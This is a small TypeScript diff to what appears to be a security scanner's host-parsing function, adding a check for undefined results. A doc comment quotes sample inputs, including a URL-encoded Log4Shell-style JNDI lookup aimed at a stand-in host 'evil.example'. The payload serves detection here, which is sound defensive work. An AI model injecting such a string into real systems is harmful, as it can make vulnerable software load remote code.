@@ -64,7 +64,7 @@ function* hostIn(line: LineOfText, rest: number, end: number): Generator<Found> 
   const authority = /^[^/\\?#]{0,300}/u.exec(line.text.slice(rest, Math.min(end, rest + 301)))?.[0] ?? '';
   const host = authority.replace(/@(?:ssl|\d{1,5})(?:@\d{1,5})?$/iu, '');
   for (const found of indicatorsInWords(host, { line, at: rest, previous: '', isHost: true }))
-    yield shifted(found, rest);
+    if (found !== undefined) yield shifted(found, rest);
 }
 
 /** `$%7Bjndi:ldap://evil.example/a%7D`, `%22http://evil.example/%22`: what was opened before the URL. */
